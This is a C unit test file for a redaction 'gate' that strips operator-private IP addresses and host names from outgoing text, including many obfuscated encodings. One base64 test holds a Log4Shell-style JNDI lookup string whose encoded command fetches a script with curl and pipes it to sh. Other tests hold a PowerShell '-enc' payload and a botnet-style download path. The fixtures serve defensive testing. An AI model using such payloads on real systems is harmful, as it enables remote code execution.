/*
 * test_gate.c - what belongs to the operator is cut, however an attacker wrote it, and nothing else.
 *
 * SPDX-License-Identifier: MIT
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>

#include "common/base/utf8.h"
#include "common/outgoing/gate.h"
#include "tests/unit/tap.h"

static struct gate *
sensors(void)
{
	static const char *const VALUES[] = { "203.0.113.10", "2001:db8:5::10",
		"my-sensor", "tp", "Lab.Example.org", "" };
	struct err e = ERR_NONE;
	struct gate *g = gate_new(&e);

	for (size_t i = 0; i < sizeof VALUES / sizeof VALUES[0]; i++)
		gate_add(g, VALUES[i], &e);
	return g;
}

/* The text as it leaves; want NULL: unchanged. */
static void
check(struct gate *g, const char *text, const char *want, const char *words)
{
	auto_buf out = BUF_INIT(4096);

	gate_has_cut(g);
	gate_pass(g, text, 2048, &out);
	is_text(buf_text(&out), want != NULL ? want : text, words);
	ok(gate_has_cut(g) == (want != NULL), "... and the gate knows whether it cut");
}

static void
test_addresses(struct gate *g)
{
	check(g, "203.0.113.10", "***", "an address");
	check(g, "http://203.0.113.10:80/x", "http://***:80/x", "... in a URL");
	check(g, "ip203.0.113.10x", "ip***x", "... between letters");
	check(g, "203.000.113.010", "***", "... with leading zeros");
	check(g, "a 203.0.113.10 b 203.0.113.10", "a *** b ***", "... twice");
	check(g, "203-0-113-10.isp.example", "***.isp.example", "dashed");
	check(g, "ec2-203-0-113-10.example", "***.example", "... the whole label goes");
	check(g, "203_0_113_10", "***", "underlined");
	check(g, "203[.]0[.]113[.]10", "***", "defanged");
	check(g, "http://3405803786/x", "http://***/x", "decimal");
	check(g, "0xCB00710A", "***", "hexadecimal");
	check(g, "0xcb00710a", "***", "... in small letters");
	check(g, "CB00710A", "***", "... without a mark");
	check(g, "0xCB.0x00.0x71.0x0A", "***", "dotted hexadecimal");
	check(g, "cb.00.71.0a", "***", "... without marks");
	check(g, "031300070412", "***", "octal");
	check(g, "0313.0.0161.012", "***", "dotted octal");
	check(g, "0313.0x0.113.012", "***", "mixed");
	check(g, "10.113.0.203", "***", "reversed");
	check(g, "10.113.0.203.in-addr.arpa", "***.in-addr.arpa", "... as in DNS");
	check(g, "175177931", "***", "reversed, decimal");
	check(g, "0x0a7100cb", "***", "reversed, hexadecimal");
	check(g, "01.311.0.302", "***", "spelled backwards");
	check(g, "%32%30%33%2e%30%2e%31%31%33%2e%31%30", "***", "percent-encoded");
	check(g, "?a=203%2E0%2E113%2E10&b", "?a=***&b", "... in part");
	check(g, "203%252e0%252e113%252e10", "***", "... twice");
}

static void
test_base64(struct gate *g)
{
	check(g, "MjAzLjAuMTEzLjEw", "***", "base64");
	check(g, "MjAzLjAuMTEzLjEwPz5+", "***", "base64, first alignment");
	check(g, "eDIwMy4wLjExMy4xMD8+fg==", "***", "... second alignment, padded");
	check(g, "eDIwMy4wLjExMy4xMD8-fg", "***", "... of the other alphabet, without");
	check(g, "eHkyMDMuMC4xMTMuMTA/Pn4=", "***/Pn4=", "... third alignment");
	check(g, "eHkyMDMuMC4xMTMuMTA_Pn4", "***", "... of the other alphabet");
	check(g,
	    "${jndi:ldap://198.51.100.9/Basic/Command/Base64/"
	    "Y3VybCAyMDMuMC4xMTMuMTA6ODA4MC94fHNo}",
	    "${jndi:ldap://198.51.100.9/Basic/Command/Base64/***}",
	    "a command in base64, without the path before it");
	check(g, "aMjAzLjAuMTEzLjEw", "***", "... after a letter that shifts it");
	check(g, "q=MjAzLjAuMTEzLjEwOjE%3D&x", "q=***&x",
	    "... with its padding percent-encoded");
	check(g, "TWpBekxqQXVNVEV6TGpFdw==", "***", "base64 of base64");
	check(g, "MjAzJTJlMC4xMTMuMTA=", "***", "base64 of percent-encoding");
	check(g, "MHhDQjAwNzEwQQ==", "***", "base64 of hexadecimal");
	check(g, "WzIwMDE6REI4OjU6OjEwXQ==", "***", "base64 of IPv6");
	check(g, "-enc cABpAG4AZwAgADIAMAAzAC4AMAAuADEAMQAzAC4AMQAwAA==", "-enc ***",
	    "base64 of UTF-16");
	check(g, "203.0.113%00.10", "***", "NULs in between");
	check(g, "bXktc2Vuc29y", "***", "base64 of a name");
	check(g, "x/YXQgTVktU2Vuc29yIG5vdw==", "x/***", "... in any case, in a sentence");
}

static void
test_ipv6(struct gate *g)
{
	check(g, "2001:db8:5::10", "***", "IPv6");
	check(g, "http://[2001:DB8:5:0:0::10]:8080/", "http://[***]:8080/",
	    "... in another form");
	check(g, "2001:0db8:0005:0000:0000:0000:0000:0010", "***", "... in full");
	check(g, "addr:2001:db8:5::10.", "addr:***.", "... in a sentence");
	check(g, "2001:db8:5::10%eth0", "***%eth0", "... with a zone");
	check(g, "2001%3Adb8%3A5%3A%3A10", "***", "... percent-encoded");
	check(g, "20010db8000500000000000000000010", "***", "... as digits");
	check(g,
	    "0.1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.5.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
	    "***.ip6.arpa", "... reversed, as in DNS");
	check(g, "[::ffff:203.0.113.10]", "[***]", "v4-mapped");
	check(g, "::ffff:cb00:710a", "***", "... in hexadecimal");
	check(g, "64:ff9b::cb00:710a", "***", "translated");
	check(g, "2002:cb00:710a::1", "***", "tunnelled");
}

static void
test_names(struct gate *g)
{
	check(g, "my-sensor", "***", "a name");
	check(g, "/MY-Sensor.sh", "/***.sh", "... in any case");
	check(g, "x_my-sensor_y", "x_***_y", "... between marks");
	check(g, "lab.example.ORG.", "***.", "... with dots");
	check(g, "%6d%79%2d%73%65%6e%73%6f%72", "***", "... percent-encoded");
	check(g, "my%2Dsensor", "***", "... in part");
	check(g, "tp://x", "***://x", "a short one");
}

/* What a reader sees is not what the bytes say. */
static void
test_look_alikes(struct gate *g)
{
	check(g, "203\xc2\xad.0.113.10", "***", "a soft hyphen inside");
	check(g,
	    "203.0.\xe2\x80\x8b"
	    "113.10",
	    "***", "a blank without width");
	check(g, "\xef\xbc\x92\xef\xbc\x90\xef\xbc\x93.0.113.10", "***", "wide digits");
	check(g,
	    "203\xe3\x80\x82"
	    "0\xe3\x80\x82"
	    "113\xef\xbd\xa1"
	    "10",
	    "***", "Japanese dots");
	check(g,
	    "\xd9\xa2\xd9\xa0\xd9\xa3.\xd9\xa0.\xd9\xa1\xd9\xa1\xd9\xa3.\xd9\xa1\xd9\xa0",
	    "***", "Arabic digits");
	check(g, "\xf0\x9d\x9f\x90\xf0\x9d\x9f\x8e\xf0\x9d\x9f\x91.0.113.10", "***",
	    "digits of mathematics");
	check(
	    g, "\xe2\x91\xa1\xe2\x93\xaa\xe2\x91\xa2.0.113.10", "***", "circled digits");
	check(g, "2O3.o.ll3.IO", "***", "letters that look like digits");
	check(g,
	    "\xe4\xba\x8c\xe3\x80\x87\xe4\xb8\x89.\xe3\x80\x87.\xe4\xb8\x80\xe4\xb8\x80\xe4\xb8\x89.\xe4\xb8\x80\xe3\x80\x87",
	    "***", "digits of Han characters");
	check(g, "my\xe2\x80\x91sensor", "***", "a hyphen that does not break");
	check(g, "m\xd1\x83-s\xd0\xb5nsor", "***", "Cyrillic letters in a name");
	check(g, "my-s\xc3\xa9nsor", "***", "an accent on a letter");
	check(g, "lab[.]example[.]org", "***", "a name with its dots in brackets");
}

/* What inet_aton(3), a browser and FTP read. */
static void
test_numeric_forms(struct gate *g)
{
	check(g, "203.0.28938", "***", "three parts");
	check(g, "203.28938", "***", "two parts");
	check(g, "0xcb.28938", "***", "... one of them hexadecimal");
	check(g, "0313.0x710a", "***", "... one of them octal");
	check(g, "0x000000cb00710a", "***", "zeros before a number");
	check(g, "PORT 203,0,113,10,4,1", "PORT ***,4,1", "FTP's commas");
	check(g, "203 0 113 10", "***", "blanks between");
	check(g, "203 . 0 . 113 . 10", "***", "... and dots");
	check(g, "2 0 3 . 0 . 1 1 3 . 1 0", "***", "... between all digits");
	check(g, "203[dot]0(dot)113 dot 10", "***", "dots in words");
	check(g, "203.0.113[.]10", "***", "one dot in brackets");
	check(g, "cb:00:71:0a", "***", "bytes as in a hardware address");
	check(g, "203\"\".0.'113'.10", "***", "quotes as a shell drops them");
	check(g, "2001-db8-5--10.ipv6-literal.net", "***.ipv6-literal.net",
	    "IPv6 in a host name");
	check(g, "2001_db8_5__10", "***", "... with another separator");
	check(g, "2001[:]db8[:]5[:]0[:]0[:]0[:]0[:]10", "***", "... in brackets");
	check(
	    g, "2001:0:c000:201:0:0:34ff:8ef5", "***", "the client of a Teredo address");
}

static void
test_escapes(struct gate *g)
{
	check(g, "\\x32\\x30\\x33\\x2e0.113.10", "***", "escapes of a script");
	check(g, "203\\0560\\056113\\05610", "***", "... octal");
	check(g, "203\\u002e0\\u002e113\\u{2e}10", "***", "... of JSON");
	check(g, "203&#46;0&#x2e;113&period;10", "***", "entities");
	check(g, "203%u002e0%u002e113%u002e10", "***", "escapes of old browsers");
	check(g, "203=2E0=2E113=2E10", "***", "quoted-printable");
	check(g, "203%26%2346%3B0.113.10", "***", "an entity, percent-encoded");
	check(g, "GIYDGLRQFYYTCMZOGEYA====", "***", "base32");
	check(g, "giydglrqfyytcmzogeya", "***", "... in small letters, without padding");
	check(g, "3230332e302e3131332e3130", "***", "hexadecimal text");
	check(g, "32 30 33 2e 30 2e 31 31 33 2e 31 30", "***", "... with blanks");
	check(g, "String.fromCharCode(50,48,51,46,48,46,49,49,51,46,49,48)",
	    "String.fromCharCode(***)", "characters as numbers");
	check(g,
	    "chr(50).chr(48).chr(51).chr(46).chr(48).chr(46).chr(49).chr(49).chr(51).chr(46).chr(49).chr(48)",
	    "chr(***)", "... each in a call");
	check(g, "0x32,0x30,0x33,0x2e,0x30,0x2e,0x31,0x31,0x33,0x2e,0x31,0x30", "***",
	    "... hexadecimal");
	check(g, "TWpBekxqQXVNVEV6TGpFdyA=", "***", "base64 of base64");
	check(g, "VFdwQmVreHFRWFZOVkVWNlRHcEZkdz09", "***", "... of base64");
}

static void
test_scripts(void)
{
	struct err e = ERR_NONE;
	struct gate *g = gate_new(&e);

	gate_add(g,
	    "\xc3\x9c"
	    "ber-Knoten",
	    &e);
	gate_add(g, "\xe6\x9d\xb1\xe4\xba\xac\xe3\x83\xa9\xe3\x83\x9c", &e);
	gate_add(g, "xn--mller-kva.example", &e);
	gate_add(g,
	    "stra\xc3\x9f"
	    "e-7",
	    &e);
	check(g,
	    "\xc3\xbc"
	    "BER-knoten",
	    "***", "a name beyond ASCII in any case");
	check(g,
	    "u\xcc\x88"
	    "ber-knoten",
	    "***", "... with its accent apart");
	check(g, "xn--ber-knoten-8db", "***", "... in punycode");
	check(g, "STRASSE-7", "***", "a letter that becomes two");
	check(g,
	    "\xe7\xa7\x81\xe3\x81\xae\xe6\x9d\xb1\xe4\xba\xac\xe3\x83\xa9\xe3\x83\x9c\xe3"
	    "\x81\xa7\xe3\x81\x99",
	    "\xe7\xa7\x81\xe3\x81\xae***\xe3\x81\xa7\xe3\x81\x99",
	    "a Japanese name between Japanese letters");
	check(g, "\xe6\x9d\xb1\xe4\xba\xac\xef\xbe\x97\xef\xbe\x8e\xef\xbe\x9e", "***",
	    "... in narrow letters");
	check(g, "M\xc3\xbcller.example", "***", "a name known in punycode");
	check(g,
	    "\xc3\xbc"
	    "ber-knotens",
	    NULL, "a longer word is another one");
	gate_free(g);
}

/* The operator's list takes networks and domains. */
static void
test_networks(void)
{
	struct err e = ERR_NONE;
	struct gate *g = gate_new(&e);

	gate_add(g, "203.0.113.0/24", &e);
	gate_add(g, "10.8.0.0/14", &e);
	gate_add(g, "2001:db8:7::/48", &e);
	gate_add(g, "::ffff:198.51.100.0/120", &e);
	gate_add(g, "*.lab.example", &e);
	check(g, "http://203.0.113.77/ 203.0.114.77", "http://***/ 203.0.114.77",
	    "an address of a network");
	check(g, "203.0.113.0", "***", "its first");
	check(g, "203.0.113.255", "***", "its last");
	check(g, "3405803853", "***", "... as a number");
	check(g, "10.11.255.255 10.12.0.0", "*** 10.12.0.0", "a larger network");
	check(g, "168296449", NULL, "... where numbers say nothing");
	check(g, "http://168296449/", "http://***/", "... but as a host");
	check(g, "2001:db8:7:1::5 2001:db8:8::5", "*** 2001:db8:8::5", "an IPv6 network");
	check(g, "198.51.100.7 198.51.101.7", "*** 198.51.101.7",
	    "an IPv4 network written as IPv6");
	check(g, "http://a.b.lab.example:80/", "http://***:80/", "a host below a domain");
	check(g, "lab.example", "***", "... the domain itself");
	check(g, "xlab.example lab.examples", NULL, "... and no other");
	check(g, "a.lab.example.b-lab.example.c.lab.example:80", "***:80",
	    "the labels before each domain, where hosts follow without a gap");
	gate_free(g);
}

/* A text that was cut may end with the beginning of what is private. */
static void
test_cut_end(struct gate *g, const char *end, const char *want, const char *words)
{
	char text[GATE_STORED_NAME_MAX + 1];
	auto_buf out = BUF_INIT(4096);
	size_t len = strlen(end), start = GATE_STORED_NAME_MAX - len;

	memset(text, ' ', sizeof text);
	memcpy(text + start, end, len + 1);
	gate_pass(g, text, 2048, &out);
	is_text(buf_text(&out) + start, want, words);
	buf_reset(&out);
	gate_pass(g, end, 2048, &out);
	is_text(
	    buf_text(&out), end, "... which is a text of its own where nothing was cut");
}

static void
test_cut_ends(struct gate *g)
{
	test_cut_end(
	    g, "http://203.0.113.1", "http://***", "an address that the cut shortened");
	test_cut_end(g, "http://203.0.11", "http://***", "... further");
	test_cut_end(g, "203-0-113-", "***", "... in another form");
	test_cut_end(g, "0xcb007", "***", "... as a number");
	test_cut_end(g, "/my-sens", "/***", "a name that the cut shortened");
	test_cut_end(g, "2001:db8:5::1", "***", "an IPv6 address that the cut shortened");
	test_cut_end(g, "203%2e0%2e11", "***", "... percent-encoded");
	test_cut_end(g, "MjAzLjAuMTEzLj", "***", "... in base64");
}

static void
test_others(struct gate *g)
{
	static const char *const KEPT[] = { "", "203.0.113.100", "203.0.113.1",
		"1203.0.113.10", "203.0.113", "203.0-113.10", "34058037860", "3405803787",
		"CB00710AF", "aCB00710A0", "2001:db8:5::11", "2001:db8:5::1",
		"20010db80005000000000000000000101", "my-sensors", "amy-sensor",
		"\xc3\xa9my-sensor", "http://x.example/bins/arm7",
		"MjAzLjAuMTEzLjEwNQ==", "MjAzLjAuMTEzLjEx", "http", "100% of 5", "%zz%4",
		"::::::::::",
		"15a0c0ffee0123456789abcdef0123456789abcdef0123456789abcdef012345", "99",
		"10.5", "日本語" };

	check(g, "203 0 113 10 7", NULL, "numbers in a row are no address");
	check(g, "4 203 0 113 10", NULL, "... wherever they stand in it");
	for (size_t i = 0; i < sizeof KEPT / sizeof KEPT[0]; i++)
		check(g, KEPT[i], NULL, "what is not private stays");
	check(g, "1203.0.113.10 203.0.113.10", "1203.0.113.10 ***", "... beside what is");
}

static void
test_limits(struct gate *g)
{
	auto_buf out = BUF_INIT(4096);
	char text[GATE_TEXT_MAX * 2];

	memset(text, 'z', sizeof text);
	memcpy(text + GATE_TEXT_MAX - 4, "203.0.113.10", 13);
	gate_pass(g, text, GATE_TEXT_MAX, &out);
	is_int((int64_t)out.len, GATE_TEXT_MAX, "a text is cut at its limit");
	buf_reset(&out);
	gate_pass(g, "ab\xe2\x82\xac", 4, &out);
	is_text(buf_text(&out), "ab", "... not in the middle of a character");
	buf_reset(&out);
	gate_pass(g,
	    "a\xff"
	    "b",
	    100, &out);
	is_text(buf_text(&out),
	    "a\xef\xbf\xbd"
	    "b",
	    "what is not UTF-8 is replaced");
	buf_reset(&out);
	gate_pass(NULL, "203.0.113.10", 100, &out);
	is_text(buf_text(&out), "203.0.113.10", "without a gate nothing is private");
	gate_reset(g);
	check(g, "203.0.113.10 my-sensor", NULL, "nor after it forgot");
}

/* ---- anything at all */

static uint32_t dice = 12345;

static uint32_t
roll(uint32_t sides)
{
	dice = dice * 1664525 + 1013904223;
	return (dice >> 8) % sides;
}

/* Whether the word stands in the text with no letter or digit beside it. */
static bool
stands_alone(const char *text, const char *word)
{
	size_t len = strlen(word);

	for (const char *p = text; (p = strstr(p, word)) != NULL; p++) {
		unsigned char before = p > text ? (unsigned char)p[-1] : ' ';
		unsigned char after = (unsigned char)p[len];

		if (!isalnum(before) && before < 0x80 && !isalnum(after) && after < 0x80)
			return true;
	}
	return false;
}

/* Pieces that lead into every decoder, and noise; whatever comes out is UTF-8 and free of both. */
static void
test_noise(struct gate *g)
{
	static const char *const PIECES[] = { "203.0.113.10", "203", ".", "%", "%3",
		"%32", "0x", "::", "2001:db8:", "my-", "sensor", "MjAz", "LjAu", "=",
		"\xe2\x82", "\xff", "-", "113", "0", "10", "[.]", "cb00710a", "/", "_" };
	bool whole = true, silent = true;

	for (int round = 0; round < 3000; round++) {
		auto_buf text = BUF_INIT(4096), out = BUF_INIT(4096);

		for (uint32_t n = roll(40); n > 0; n--)
			if (roll(4) > 0)
				buf_puts(&text,
				    PIECES[roll(sizeof PIECES / sizeof PIECES[0])]);
			else
				buf_putc(&text, (char)(1 + roll(255)));
		gate_pass(g, buf_text(&text), GATE_TEXT_MAX, &out);
		whole = whole && utf8_valid(buf_text(&out), out.len);
		silent = silent && !stands_alone(buf_text(&out), "203.0.113.10") &&
			 !stands_alone(buf_text(&out), "my-sensor");
	}
	ok(whole, "noise of every kind passes whole");
	ok(silent, "... and without what is private");
}

/* A thousand addresses, learned over years. */
static void
test_many(void)
{
	struct err e = ERR_NONE;
	struct gate *g = gate_new(&e);
	char address[32];

	for (int i = 0; i < 1000; i++) {
		snprintf(address, sizeof address, "198.51.%d.%d", (i * 7) % 250, i % 250);
		gate_add(g, address, &e);
	}
	check(
	    g, "198.51.7.1 198.51.7.2", "*** 198.51.7.2", "one of a thousand addresses");
	gate_free(g);
}

static void
check_page(struct gate *g, size_t at, const char *what, bool want)
{
	static char page[30000];

	memset(page, 'x', sizeof page - 1);
	for (size_t i = 0; i < sizeof page - 1; i += 7)
		page[i] = i % 3 == 0 ? '<' : ' ';
	memcpy(page + at, what, strlen(what));
	ok(gate_finds(g, page) == want, what);
}

static void
test_pages(struct gate *g)
{
	for (size_t at = 1; at < 29000; at += 997)
		check_page(g, at, " 203[.]0[.]113[.]10 ", true);
	check_page(g, 29983 - 4, " my-sensor ", true);
	check_page(g, 5000, " 203[.]0[.]113[.]11 ", false);
	ok(!gate_finds(g, ""), "an empty page");
	ok(!gate_has_cut(g), "a look at a page cuts nothing");
}

int
main(void)
{
	struct gate *g = sensors();

	test_pages(g);

	test_addresses(g);
	test_base64(g);
	test_ipv6(g);
	test_names(g);
	test_look_alikes(g);
	test_numeric_forms(g);
	test_escapes(g);
	test_scripts();
	test_networks();
	test_cut_ends(g);
	test_others(g);
	test_noise(g);
	test_limits(g);
	test_many();
	gate_free(g);
	return done_testing();
}
